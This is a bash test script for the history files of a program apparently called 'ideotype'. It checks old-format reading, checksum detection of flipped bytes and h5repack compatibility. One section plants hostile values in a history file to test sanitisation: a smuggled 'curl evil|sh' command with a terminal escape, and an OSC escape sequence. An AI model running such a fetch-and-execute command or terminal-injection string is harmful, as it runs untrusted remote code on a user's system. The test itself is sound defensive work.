#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Tests histories of an earlier format, and damaged histories of the current
# format.
. "$(dirname "$0")/common.sh"

# A history of version 0.2.0, repacked by h5repack.
old=$project/tests/data/history/format_2_0.h5
expect 0 "$ideotype" status "$old"
says "finished (reached stop.generations), 24 of 24 plants in 4 generations, best "
passed="ideotype: warning: .*the campaign of this history has keys that this version lacks"
says "$passed (light.first_tolerance, search.adapts_learning_rates, search.restarts, search.smallest_step, search.window, stop.stagnation, stop.target);"
expect 0 "$ideotype" verify "$old"
says "header, 4 generations and 3 finalists match their checksums"
expect 0 "$ideotype" export "$old" --generations --to old.csv
[ "$(wc -l <old.csv)" -eq 25 ] || fail "not a line for each row and a head"
expect 0 "$ideotype" export "$old" --best --to bred.toml
says "$passed"
grep -q "^insertion_angle = " bred.toml || fail "$(cat bred.toml)"
# The light may have changed since version 0.2.0.
"$ideotype" evaluate "$old" --best >out.log 2>&1 || [ $? -eq 1 ] ||
    fail "$(cat out.log)"
says "final slot [12]: \(agrees bit for bit with\|DIFFERS from\) the history"

# All commands that read rows detect flipped bits in them.
write_campaign flipped 6 3
expect 0 "$ideotype" run campaigns/flipped.toml
history=$(history_of results flipped)
expect 0 "$ideotype" status "$history"
! grep -q "$passed" out.log || fail "a history of today warns: $(cat out.log)"
expect 0 "$ideotype" verify "$history"
says "header, 3 generations and 4 finalists match their checksums"
cp "$history" whole.h5
# Replaces a byte: $1 dataset, $2 position of the byte, $3 part reported as
# damaged, $4 new byte.
flip() {
    local at
    at=$(h5dump -p -H -d "$1" whole.h5 | awk '/OFFSET/ { print $2 }')
    cp whole.h5 "$history"
    printf '%b' "${4:-\\0125}" | dd of="$history" bs=1 seek=$((at + $2)) conv=notrunc status=none
    cmp -s whole.h5 "$history" && fail "nothing changed in $1"
    expect 4 "$ideotype" verify "$history"
    says "damaged: $3 does not have its checksum"
    expect 4 "$ideotype" run campaigns/flipped.toml --resume
    says "damaged: $3 does not have its checksum"
    # All commands that read rows report the damage.
    local reader
    for reader in status "status --json" "evaluate --best" \
        "export --generations --to flipped.csv" "export --best --to flipped.toml"; do
        # shellcheck disable=SC2086
        expect 4 "$ideotype" $reader "$history"
        says "damaged: $3 does not have its checksum"
    done
    [ ! -e flipped.csv ] && [ ! -e flipped.toml ] || fail "something was exported"
    expect 4 "$ideotype" check campaigns/flipped.toml --left
    says "damaged: $3 does not have its checksum"
}
flip /evaluations/genome 8007 "generation 2"
flip /evaluations/absorbed_by_leaf 3 "generation 0"
flip /generations/mean 9 "generation 1"
flip /final/objectives 17 "finalist 2"
flip /genes/lower 5 "the header"
flip /evaluations/hour 6 "the header"
flip /campaign/resolved 100 "the header"
flip /generations/committed 2 "the mark of generation 2" '\0'
flip /final/status 1 "finalist 1" '\0'

# Commands in a history may come from anybody: only a start of the program is
# offered, and no control character reaches the terminal.
cp whole.h5 "$history"
write_text() {
    local at
    at=$(h5dump -p -H -d "$1" whole.h5 | awk '/OFFSET/ { print $2 }')
    printf '%b' "$2" | dd of="$history" bs=1 seek="$at" conv=notrunc status=none
}
write_text /state/finished '\0'
expect 0 "$ideotype" status "$history"
says "^  .*ideotype run campaigns/flipped.toml --resume$"
write_text /sessions/command 'ideotype run x.toml; curl evil|sh # \033[1A'
expect 0 "$ideotype" status "$history"
! grep -q "evil\|resume with" out.log || fail "offered: $(cat out.log)"
write_text /state/finished '\001'
write_text /state/reason 'gen\033]0;evil\007\302\233'
expect 0 "$ideotype" status "$history"
says 'finished (reached stop.gen\\x1b\]0;evil\\x07\\xc2\\x9b)'

# The result of h5repack reads the same. With -L it can also be resumed.
cp whole.h5 "$history"
expect 0 "$ideotype" export whole.h5 --generations --to whole.csv
for option in "" -L; do
    # shellcheck disable=SC2086
    h5repack $option -f SHUF -f GZIP=6 whole.h5 "$history"
    h5dump -p -H -d /evaluations/genome "$history" | grep -q DEFLATE ||
        fail "nothing is compressed"
    expect 0 "$ideotype" verify "$history"
    says "header, 3 generations and 4 finalists match their checksums"
    expect 0 "$ideotype" status "$history"
    says "finished (reached stop.generations)"
    expect 0 "$ideotype" evaluate "$history" --best
    says "agrees bit for bit"
    expect 0 "$ideotype" export "$history" --generations --to "packed$option.csv"
    cmp "packed$option.csv" whole.csv
    same_results whole.h5 "$history"
    head -c -1000 "$history" >short.h5
    expect 4 "$ideotype" verify short.h5
    says "truncated"
    if [ -z "$option" ]; then
        expect 4 "$ideotype" run campaigns/flipped.toml --resume
        says "repack it again with the option -L"
    fi
done
expect 0 "$ideotype" run campaigns/flipped.toml --resume
says "finished before"
cp whole.h5 "$history"
write_text /state/finished '\0'
h5repack -L -f SHUF -f GZIP=6 "$history" unfinished.h5
mv unfinished.h5 "$history"
expect 4 "$ideotype" run campaigns/flipped.toml --resume
says "before it was finished"
